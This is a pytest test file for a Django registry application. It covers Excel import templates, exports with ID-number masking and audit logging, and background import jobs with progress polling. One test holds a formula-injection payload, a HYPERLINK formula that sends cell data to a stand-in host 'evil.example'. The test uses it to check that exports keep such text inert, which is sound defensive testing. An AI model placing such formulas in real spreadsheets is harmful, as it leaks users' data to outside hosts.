"""Excel templates, exports and background import jobs with their progress."""

from __future__ import annotations

import io
from unittest import mock

import pytest
from openpyxl import load_workbook

from guanqing.core import excel
from guanqing.core.models import AuditEvent
from guanqing.registry import imports
from guanqing.registry.models import Household
from guanqing.registry.models_imports import ImportJob
from guanqing.registry.tests.excel_helpers import (
    HOUSEHOLD_HEADERS,
    MEMBER_HEADERS,
    UNIT_HEADERS,
    bad_checksum,
    household_row,
    xlsx_upload,
)
from guanqing.testing import factories as f

HEADERS = {"units": UNIT_HEADERS, "members": MEMBER_HEADERS, "households": HOUSEHOLD_HEADERS}


def workbook(response):
    assert response["Content-Type"] == excel.XLSX_CONTENT_TYPE
    return load_workbook(io.BytesIO(response.content))


# -- templates ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["units", "members", "households"])
def test_template_opens_with_chinese_headers_and_instructions(world, client, kind):
    client.force_login(world.users.committee)
    response = client.get(f"/registry/excel/template/{kind}/")

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    wb = workbook(response)
    data, instructions = wb.worksheets
    assert [c.value for c in data[1]] == HEADERS[kind]
    assert data.max_row == 1
    assert instructions.title == "填写说明"
    described = [row[0] for row in instructions.iter_rows(min_row=2, values_only=True) if row[1]]
    assert described == HEADERS[kind]


def test_household_template_lists_the_allowed_hardship_categories(world, client):
    client.force_login(world.users.community_worker)
    wb = workbook(client.get("/registry/excel/template/households/"))
    rows = {row[0]: row for row in wb["填写说明"].iter_rows(min_row=2, values_only=True)}
    assert "低保户" in rows["困难类别"][3]
    assert rows["身份证号码"][1] == "必填"
    assert rows["住址"][1] == "选填"


def _examples(client, kind) -> dict:
    wb = workbook(client.get(f"/registry/excel/template/{kind}/"))
    return {row[0]: row[4] for row in wb["填写说明"].iter_rows(min_row=2, values_only=True)}


@pytest.mark.django_db
def test_household_template_example_code_and_name_are_the_same_real_community(client):
    from guanqing.registry.models import Division

    district = f.DistrictFactory(code="330212000000", name="鄞州区")
    street = f.StreetFactory(parent=district, code="330212005000", name="中河街道")
    f.CommunityFactory(parent=street, code="330212005007", name="宁南社区")
    client.force_login(f.UserFactory(role="committee"))
    examples = _examples(client, "households")
    code, name = examples["社区/村代码"], examples["社区/村"]
    assert Division.objects.get(code=code).name == name
    assert _examples(client, "members")["居住社区代码"] == code


def test_household_template_example_is_the_workers_own_community(world, client):
    worker = f.UserFactory(role="community_worker", community=world.other_community)
    client.force_login(worker)
    examples = _examples(client, "households")
    assert (examples["社区/村代码"], examples["社区/村"]) == ("330203001002", "别的社区")


@pytest.mark.django_db
def test_household_template_example_without_communities_is_still_a_consistent_pair(client):
    from guanqing.registry.demo.data import STREETS

    client.force_login(f.UserFactory(role="committee"))
    examples = _examples(client, "households")
    code, name = examples["社区/村代码"], examples["社区/村"]
    # the pair the demo data registers: district + street + the community's place in the street
    street = next(s for s in STREETS[code[:6]] if s[0] == code[6:9])
    assert street[3][int(code[9:]) - 1] == name


def test_the_example_row_of_the_household_template_imports_without_a_name_mismatch(world, client):
    client.force_login(world.users.community_worker)
    examples = _examples(client, "households")
    row = household_row(1, examples["社区/村代码"], **{"社区/村": examples["社区/村"]})
    response = client.post(
        "/registry/excel/", {"kind": "households", "file": xlsx_upload(HOUSEHOLD_HEADERS, [row])}
    )
    assert response.context["result"].ok, response.context["result"].errors


def test_template_of_a_kind_the_role_may_not_import_is_404(world, client):
    client.force_login(world.users.community_worker)
    assert client.get("/registry/excel/template/members/").status_code == 404
    client.force_login(world.users.member)
    assert client.get("/registry/excel/template/households/").status_code == 404


# -- exports -----------------------------------------------------------------------------------


def test_export_masks_id_numbers_and_is_audited(world, client):
    client.force_login(world.users.committee)
    response = client.get("/registry/excel/export/households/")

    assert response.status_code == 200
    sheet = workbook(response).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HOUSEHOLD_HEADERS
    ids = [row[1] for row in rows[1:]]
    assert len(ids) == Household.objects.count() == 2
    full = {world.household.id_number, world.other_household.id_number}
    for value in ids:
        assert value not in full
        assert "*" in value
    assert {v[:6] + v[-4:] for v in ids} == {n[:6] + n[-4:] for n in full}
    cells = {str(v) for row in sheet.iter_rows(values_only=True) for v in row if v}
    assert not cells & full
    event = AuditEvent.objects.get(action="export")
    assert event.actor == world.users.committee
    assert event.changes["rows"] == [None, 2]


def test_unit_admin_exports_only_its_own_members(world, client):
    f.MemberFactory(unit=world.unit, name="王五")
    client.force_login(world.users.unit_admin)
    sheet = workbook(client.get("/registry/excel/export/members/")).worksheets[0]

    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert sorted(r[0] for r in rows) == ["张三", "王五"]
    assert {r[5] for r in rows} == {"市纪委"}
    assert rows[0][4] in ("局级", "处级", "科级", "其他")


def test_community_worker_exports_only_its_community(world, client):
    client.force_login(world.users.community_worker)
    sheet = workbook(client.get("/registry/excel/export/households/")).worksheets[0]

    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == ["张国宝"]
    assert rows[0][4] == world.community.code
    assert rows[0][7] == "低保户"


def test_export_of_a_kind_outside_the_role_is_404(world, client):
    client.force_login(world.users.community_worker)
    assert client.get("/registry/excel/export/members/").status_code == 404
    client.force_login(world.users.member)
    assert client.get("/registry/excel/export/households/").status_code == 404
    assert not AuditEvent.objects.filter(action="export").exists()


def test_an_exported_unit_file_can_be_imported_back(world, client):
    client.force_login(world.users.committee)
    content = client.get("/registry/excel/export/units/").content
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(
        "/registry/excel/",
        {"kind": "units", "file": SimpleUploadedFile("units.xlsx", content)},
    )
    result = response.context["result"]
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert not AuditEvent.objects.filter(action="update").exists()


# -- background jobs ---------------------------------------------------------------------------


@pytest.fixture
def low_threshold(settings):
    settings.IMPORT_BACKGROUND_THRESHOLD = 2
    return settings


def test_a_large_file_runs_as_a_background_job_and_ends_done(
    world, client, low_threshold, django_capture_on_commit_callbacks
):
    rows = [household_row(n, world.community.code) for n in range(1, 6)]
    client.force_login(world.users.community_worker)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(
            "/registry/excel/",
            {"kind": "households", "file": xlsx_upload(HOUSEHOLD_HEADERS, rows, "big.xlsx")},
        )

    assert len(callbacks) == 1
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/registry/excel/jobs/{job.pk}/"
    assert (job.status, job.total_rows, job.created_count, job.updated_count) == ("done", 5, 5, 0)
    assert job.errors == []
    assert job.created_by == world.users.community_worker
    assert not job.file  # the upload, with ID numbers in clear, is not kept
    assert Household.objects.filter(head_name__startswith="导入户主").count() == 5
    assert AuditEvent.objects.filter(action="import").count() == 1

    page = client.get(response["Location"])
    assert page.status_code == 200
    content = page.content.decode()
    assert 'id="import-success"' in content
    assert "hx-trigger" not in content  # finished: polling stops


def test_a_large_file_with_a_bad_row_ends_failed_with_its_errors(
    world, client, low_threshold, django_capture_on_commit_callbacks
):
    rows = [household_row(n, world.community.code) for n in range(1, 6)]
    rows[4][1] = bad_checksum(rows[4][1])
    client.force_login(world.users.committee)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/registry/excel/", {"kind": "households", "file": xlsx_upload(HOUSEHOLD_HEADERS, rows)}
        )

    job = ImportJob.objects.get()
    assert job.status == "failed"
    assert [(e["row"], e["column"]) for e in job.errors] == [(6, "身份证号码")]
    assert (job.created_count, job.updated_count) == (0, 0)
    assert not Household.objects.filter(head_name__startswith="导入户主").exists()
    content = client.get(f"/registry/excel/jobs/{job.pk}/").content.decode()
    assert 'data-row="6" data-column="身份证号码"' in content


def test_a_large_file_with_a_missing_column_is_refused_before_queueing(
    world, client, low_threshold
):
    headers = HOUSEHOLD_HEADERS[1:]
    rows = [household_row(n, world.community.code)[1:] for n in range(1, 6)]
    client.force_login(world.users.committee)
    response = client.post(
        "/registry/excel/", {"kind": "households", "file": xlsx_upload(headers, rows)}
    )

    assert response.status_code == 200
    assert [(e.row, e.column) for e in response.context["result"].errors] == [(1, "户主姓名")]
    assert not ImportJob.objects.exists()


def queued_job(world, user, rows=3):
    """A job created but not yet run (its on-commit enqueue is never executed)."""
    upload = xlsx_upload(
        HOUSEHOLD_HEADERS, [household_row(n, world.community.code) for n in range(1, rows + 1)]
    )
    return imports.import_job_create(actor=user, kind="households", upload=upload, total_rows=rows)


def test_progress_endpoint_answers_json_and_an_htmx_partial(world, client):
    job = queued_job(world, world.users.community_worker)
    client.force_login(world.users.community_worker)

    data = client.get(f"/registry/excel/jobs/{job.pk}/progress/?format=json").json()
    assert data["status"] == "queued"
    assert data["finished"] is False
    assert (data["total"], data["checked"], data["written"], data["percent"]) == (3, 0, 0, 0)

    excel.progress_set(imports.job_progress_name(job.pk), phase="validating", checked=3, written=0)
    data = client.get(
        f"/registry/excel/jobs/{job.pk}/progress/", HTTP_ACCEPT="application/json"
    ).json()
    assert (data["checked"], data["percent"]) == (3, 50)

    partial = client.get(f"/registry/excel/jobs/{job.pk}/progress/", HTTP_HX_REQUEST="true")
    content = partial.content.decode()
    assert partial.status_code == 200
    assert 'hx-trigger="every 1s"' in content
    assert 'role="progressbar"' in content
    assert 'aria-valuenow="50"' in content
    assert "<html" not in content

    imports.import_job_run(job_id=job.pk)
    data = client.get(f"/registry/excel/jobs/{job.pk}/progress/?format=json").json()
    assert (data["status"], data["finished"], data["created"], data["percent"]) == (
        "done",
        True,
        3,
        100,
    )
    assert data["errors"] == []
    assert (
        "hx-trigger" not in client.get(f"/registry/excel/jobs/{job.pk}/progress/").content.decode()
    )


def test_a_job_is_404_for_other_users_and_visible_to_the_committee(world, client):
    job = queued_job(world, world.users.community_worker)
    other_worker = f.UserFactory(
        username="other_worker", role="community_worker", community=world.other_community
    )
    for user in (other_worker, world.users.unit_admin, world.users.member):
        client.force_login(user)
        assert client.get(f"/registry/excel/jobs/{job.pk}/").status_code == 404
        assert client.get(f"/registry/excel/jobs/{job.pk}/progress/?format=json").status_code == 404
    client.force_login(world.users.committee)
    assert client.get(f"/registry/excel/jobs/{job.pk}/").status_code == 200


def test_the_import_page_lists_only_the_users_own_jobs(world, client):
    own = queued_job(world, world.users.community_worker)
    theirs = queued_job(world, world.users.committee)
    client.force_login(world.users.community_worker)
    jobs = list(client.get("/registry/excel/").context["jobs"])
    assert jobs == [own]
    assert theirs not in jobs


def test_running_a_job_twice_does_nothing_the_second_time(world):
    job = queued_job(world, world.users.committee)
    imports.import_job_run(job_id=job.pk)
    assert imports.import_job_run(job_id=job.pk) == {"skipped": True}
    assert Household.objects.filter(head_name__startswith="导入户主").count() == 3


def test_import_page_offers_only_the_kinds_the_role_may_import(world, client):
    client.force_login(world.users.unit_admin)
    response = client.get("/registry/excel/")
    assert response.status_code == 200
    assert [k["kind"] for k in response.context["kinds"]] == ["members"]
    client.force_login(world.users.committee)
    kinds = [k["kind"] for k in client.get("/registry/excel/").context["kinds"]]
    assert kinds == ["units", "members", "households"]


def test_worker_command_runs_db_worker_without_reload(monkeypatch):
    from django.core.management import call_command

    from guanqing.core.management.commands import worker

    seen = {}

    def fake_call_command(name, **options):
        seen["name"] = name
        seen.update(options)

    monkeypatch.setattr(worker, "call_command", fake_call_command)
    call_command("worker", "--batch", "--max-tasks", "5")
    assert seen["name"] == "db_worker"
    assert seen["reload"] is False
    assert seen["batch"] is True
    assert seen["max_tasks"] == 5


def test_an_exported_household_file_is_refused_with_a_hint_about_masked_numbers(world, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(world.users.community_worker)
    content = client.get("/registry/excel/export/households/").content
    response = client.post(
        "/registry/excel/",
        {"kind": "households", "file": SimpleUploadedFile("back.xlsx", content)},
    )
    errors = response.context["result"].errors
    assert [(e.row, e.column) for e in errors] == [(2, "身份证号码")]
    assert "脱敏" in errors[0].reason


def test_polling_does_not_write_the_session(world, client):
    from django.contrib.sessions.models import Session

    job = queued_job(world, world.users.community_worker)
    client.force_login(world.users.community_worker)
    client.get(f"/registry/excel/jobs/{job.pk}/")
    key = client.session.session_key
    before = Session.objects.get(session_key=key).session_data

    response = client.get(f"/registry/excel/jobs/{job.pk}/progress/", HTTP_HX_REQUEST="true")

    assert response.status_code == 200
    assert Session.objects.get(session_key=key).session_data == before


def test_an_anonymous_poll_is_told_to_go_to_the_login_page(world, client):
    job = queued_job(world, world.users.community_worker)
    response = client.get(f"/registry/excel/jobs/{job.pk}/progress/", HTTP_HX_REQUEST="true")
    assert response.status_code == 204
    assert response["HX-Redirect"].startswith("/accounts/login/")
    assert client.get(f"/registry/excel/jobs/{job.pk}/progress/?format=json").status_code == 302


def test_export_keeps_formula_like_text_as_text(world, client):
    from guanqing.registry import services

    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    services.household_update(
        actor=world.users.community_worker, household=world.household, situation=formula
    )
    client.force_login(world.users.committee)
    sheet = workbook(client.get("/registry/excel/export/households/")).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells, "the situation text is exported"
    assert all(cell.data_type == "s" for cell in cells)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_job_without_progress_for_five_minutes_is_shown_as_stalled(world, client):
    import time

    job = queued_job(world, world.users.community_worker)
    assert imports.job_progress(job)["stalled"] is False
    later = time.time() + imports.STALLED_AFTER_SECONDS + 1
    assert imports.job_progress(job, now=later)["stalled"] is True
    imports.import_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert imports.job_progress(job, now=later)["stalled"] is False  # a finished job never stalls


def test_an_export_past_the_limit_is_refused_and_not_recorded(world, client, settings):
    client.force_login(world.users.committee)
    settings.EXPORT_MAX_ROWS = 1
    response = client.get("/registry/excel/export/households/")
    assert response.status_code == 302 and response["Location"] == "/registry/excel/"
    page = client.get("/registry/excel/").content.decode()
    assert "要导出 2 条，超过单次导出的上限 1 条" in page
    assert not AuditEvent.objects.filter(action="export").exists()
    settings.EXPORT_MAX_ROWS = 2
    assert client.get("/registry/excel/export/households/").status_code == 200


def test_a_job_holds_its_rows_out_of_the_collector_and_lets_go_at_the_end(world):
    import gc

    from guanqing.core import bulk

    before = gc.get_freeze_count()
    seen = []
    hold = bulk.LongLived.hold

    def counting_hold(self):
        hold(self)
        seen.append(gc.get_freeze_count())

    job = queued_job(world, world.users.committee)
    with mock.patch.object(bulk.LongLived, "hold", counting_hold):
        imports.import_job_run(job_id=job.pk)
    assert seen and all(count > before for count in seen)
    assert gc.get_freeze_count() == before  # released, the job done
    assert Household.objects.filter(head_name__startswith="导入户主").count() == 3
    # and when the job fails
    failing = queued_job(world, world.users.committee)
    with mock.patch.object(imports, "import_sheet", side_effect=RuntimeError("boom")):
        imports.import_job_run(job_id=failing.pk)
    assert gc.get_freeze_count() == before


def test_a_job_reads_its_sheet_without_the_collector_and_turns_it_back_on(world):
    import gc

    assert gc.isenabled()
    read = imports.excel.read_sheet
    while_reading = []

    def reading(*args, **kwargs):
        while_reading.append(gc.isenabled())
        return read(*args, **kwargs)

    job = queued_job(world, world.users.committee)
    with mock.patch.object(imports.excel, "read_sheet", reading):
        imports.import_job_run(job_id=job.pk)
    assert while_reading == [False] and gc.isenabled()
    assert Household.objects.filter(head_name__startswith="导入户主").count() == 3
    # and when the sheet cannot be read
    broken = queued_job(world, world.users.committee)
    with mock.patch.object(imports.excel, "read_sheet", side_effect=RuntimeError("boom")):
        imports.import_job_run(job_id=broken.pk)
    assert gc.isenabled()
